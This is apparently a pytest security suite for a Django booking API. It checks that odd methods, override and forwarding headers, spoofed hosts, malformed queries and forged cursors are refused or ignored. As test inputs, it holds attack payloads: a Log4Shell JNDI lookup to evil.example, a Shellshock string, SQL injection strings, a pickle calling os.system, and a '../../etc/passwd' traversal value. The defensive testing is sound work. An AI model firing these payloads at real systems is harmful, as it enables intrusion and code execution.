"""Methods, headers, hosts, queries and cursors that no client of ours sends."""

import base64
import json

import pytest
from django.test import Client

from tests.api.problems import check_problem
from tests.api.wsgi import ask
from tests.factories import all_rows, client_of, make_movie

METHODS = ["TRACE", "TRACK", "CONNECT", "PROPFIND", "MOVE", "PURGE", "DEBUG", "GET\t", "__class__"]
METHOD = "method_not_allowed"
PATHS = ["/api/v1/bookings/{}/", "/bookings/{}/", "/admin/booking/booking/", "/swagger/", "/"]


def authorization(user):
    return client_of(user)._credentials["HTTP_AUTHORIZATION"]


@pytest.mark.parametrize("method", METHODS)
def test_an_unusual_method_reads_and_changes_nothing(held, method):
    before = all_rows()
    for path in PATHS:
        sent = {"HTTP_AUTHORIZATION": authorization(held.user), "HTTP_COOKIE": "secret=canary"}
        response = ask(method, path.format(held.reference), **sent)
        assert 300 <= response.status_code < 500
        assert b"canary" not in response.content
    assert all_rows() == before


@pytest.mark.parametrize("path", ["/swagger/", "/api/v1/schema/", "/api/v1/"])
def test_a_refusal_by_a_view_that_renders_something_else_is_json(db, path):
    for method in ("TRACE", "PUT", "POST"):
        check_problem(Client(enforce_csrf_checks=True).generic(method, path), 405, METHOD)
    if path != "/api/v1/":
        check_problem(Client().get(path, headers={"Accept": "a/b"}), 406, "not_acceptable")


OVERRIDES = {
    "X-HTTP-Method-Override": {"HTTP_X_HTTP_METHOD_OVERRIDE": "DELETE"},
    "X-HTTP-Method": {"HTTP_X_HTTP_METHOD": "DELETE"},
    "X-Method-Override": {"HTTP_X_METHOD_OVERRIDE": "PATCH"},
    "_method in the query": {"QUERY_STRING": "_method=DELETE"},
    "_method in a form": {"CONTENT_TYPE": "application/x-www-form-urlencoded"},
    "X-Original-URL": {"HTTP_X_ORIGINAL_URL": "/admin/"},
    "X-Rewrite-URL": {"HTTP_X_REWRITE_URL": "/admin/"},
}


@pytest.mark.parametrize("attack", OVERRIDES)
def test_no_header_or_field_changes_the_method_or_the_path(held, attack):
    sent = OVERRIDES[attack] | {"HTTP_AUTHORIZATION": authorization(held.user)}
    before = all_rows()
    for method in ("GET", "POST"):
        response = ask(method, f"/api/v1/bookings/{held.reference}/", b"_method=DELETE", **sent)
        assert response.status_code in {200, 400, 405}
        assert b"/admin/" not in response.content
    assert all_rows() == before


HOSTS = {
    "another site": "evil.example",
    "with ours as its subdomain": "localhost.evil.example",
    "ours as a user": "localhost@evil.example",
    "a port that is none": "localhost:evil",
    "a path": "localhost/evil",
    "two": "localhost, evil.example",
    "a line end": "localhost\r\nX-Injected: 1",
    "blank": " ",
    "a NUL": "localhost\0.evil.example",
    "very long": "a" * 5000 + ".example",
    "another alphabet": "l\u043ecalhost".encode().decode("latin-1"),
    "an open bracket": "[::1",
}


@pytest.mark.parametrize("attack", HOSTS)
def test_another_host_is_a_400_that_names_it_nowhere(db, attack):
    for path in ("/", "/api/v1/movies/", "/admin/", "/password-reset/", "/sitemap.xml"):
        response = ask("GET", path, HTTP_HOST=HOSTS[attack])
        assert response.status_code == 400
        assert b"evil" not in response.content
        assert "evil" not in json.dumps(response.headers)


FORWARDED = {
    "X-Forwarded-Host": {"HTTP_X_FORWARDED_HOST": "evil.example"},
    "X-Forwarded-Server": {"HTTP_X_FORWARDED_SERVER": "evil.example"},
    "Forwarded": {"HTTP_FORWARDED": "host=evil.example;proto=https;for=9.9.9.9"},
    "X-Host": {"HTTP_X_HOST": "evil.example"},
    "X-Forwarded-Port": {"HTTP_X_FORWARDED_PORT": "666"},
    "X-Forwarded-Prefix": {"HTTP_X_FORWARDED_PREFIX": "/evil"},
    "X-Forwarded-Proto": {"HTTP_X_FORWARDED_PROTO": "https"},
    "X-Script-Name": {"HTTP_X_SCRIPT_NAME": "/evil"},
    "SCRIPT_NAME": {"SCRIPT_NAME": "/evil"},
    "Front-End-Https": {"HTTP_FRONT_END_HTTPS": "on"},
}


@pytest.mark.parametrize("attack", FORWARDED)
def test_no_forwarding_header_gets_into_an_address_of_a_response(db, attack):
    make_movie()
    for path in ("/sitemap.xml", "/api/v1/movies/", "/", "/admin", "/robots.txt"):
        response = ask("GET", path, **FORWARDED[attack])
        assert response.status_code in {200, 302}
        for part in (b"evil", b":666", b"https://localhost"):
            assert part not in response.content + json.dumps(response.headers).encode()


QUERIES = {
    "SQL": "search=%27%20OR%201%3D1--",
    "a lookup of Django's": "title__regex=.*",
    "a lookup of an account": "bookings__user__email=a",
    "a NUL": "search=%00",
    "invalid UTF-8": "search=%ff%fe",
    "a lone surrogate": "search=%ED%A0%80",
    "a thousand parameters": "&".join(f"a{n}=1" for n in range(1001)),
    "a parameter twice": "genre=Drama&genre=Comedy",
    "an array of PHP": "search[]=a",
    "an object": "search[$ne]=a",
    "a negative page": "page_size=-1",
    "no page": "page_size=0",
    "a huge page": "page_size=1000000000",
    "a page of 5,000 digits": "page_size=" + "9" * 5000,
    "another page number": "page=2",
    "an order by a secret": "ordering=password",
    "an order by a relation": "ordering=shows__bookings__user__email",
    "semicolons": "search=a;page_size=1;drop=1",
    "a callback": "callback=alert",
    "another format": "format=api",
}


@pytest.mark.parametrize("attack", QUERIES)
def test_an_odd_query_is_a_400_or_finds_nothing(db, attack):
    make_movie(title="Metropolis")
    response = ask("GET", "/api/v1/movies/", QUERY_STRING=QUERIES[attack])
    assert response.status_code in {200, 400}
    assert response.status_code == 400 or not json.loads(response.content)["results"]
    assert response.headers["Content-Type"] in {"application/json", "application/problem+json"}


def cursor(text):
    return base64.urlsafe_b64encode(text.encode()).decode()


CURSORS = {
    "no cursor": "x",
    "an offset": cursor("o=100000000"),
    "a position": cursor("p=2020-01-01"),
    "an unsigned position": cursor('["Metropolis", 1]'),
    "SQL": cursor("' UNION SELECT password FROM user --"),
    "a pickle": cursor("\x80\x04cos\nsystem\n"),
    "not base64": "%%%",
    "a NUL": "\0",
    "very long": "A" * 7000,
    "of digits": "9" * 400,
}


@pytest.mark.parametrize("attack", CURSORS)
def test_a_cursor_that_we_did_not_sign_is_a_400(alice, attack):
    for path in ("/api/v1/movies/", "/api/v1/shows/", "/api/v1/bookings/"):
        response = client_of(alice).get(path, {"cursor": CURSORS[attack]})
        check_problem(response, 400, "invalid")


def test_a_cursor_of_another_list_or_user_is_a_400_or_shows_only_ones_own(alice, mallory):
    for number in range(3):
        make_movie(title=f"M{number}")
    following = client_of(alice).get("/api/v1/movies/", {"page_size": 1}).json()["next"]
    foreign = following.split("cursor=")[1].split("&")[0]
    for path in ("/api/v1/shows/", "/api/v1/bookings/"):
        check_problem(client_of(mallory).get(f"{path}?cursor={foreign}"), 400, "invalid")


HEADERS = {
    "an If-Match of 16 KB": {"HTTP_IF_MATCH": '"' + "x" * 16_000 + '"'},
    "an endless language": {"HTTP_ACCEPT_LANGUAGE": "a-" * 8000},
    "a key of 16 KB": {"HTTP_IDEMPOTENCY_KEY": "k" * 16_000},
    "a key with a NUL": {"HTTP_IDEMPOTENCY_KEY": "k\0"},
    "a key of another shape": {"HTTP_IDEMPOTENCY_KEY": "../../etc/passwd"},
    "an Expect": {"HTTP_EXPECT": "200-ok"},
    "a Range": {"HTTP_RANGE": "bytes=" + "0-,5-" * 3000},
    "a Content-Length that is no number": {"CONTENT_LENGTH": "1e3"},
    "a Content-Length below zero": {"CONTENT_LENGTH": "-1"},
    "a Java logger's lookup": {"HTTP_USER_AGENT": "${jndi:ldap://evil.example/a}"},
    "a shell function": {"HTTP_USER_AGENT": "() { :; }; echo vulnerable"},
    "a proxy variable": {"HTTP_PROXY": "http://evil.example:80"},
}


@pytest.mark.parametrize("attack", HEADERS)
def test_an_odd_header_is_refused_or_ignored_and_never_repeated(held, attack):
    sent = HEADERS[attack] | {"HTTP_AUTHORIZATION": authorization(held.user)}
    for method, path in (
        ("GET", f"/api/v1/bookings/{held.reference}/"),
        ("POST", f"/api/v1/shows/{held.show_id}/bookings/"),
        ("GET", "/"),
    ):
        response = ask(method, path, b'{"tickets": 1}', **sent)
        assert response.status_code < 500
        assert b"evil" not in response.content
        assert b"vulnerable" not in response.content
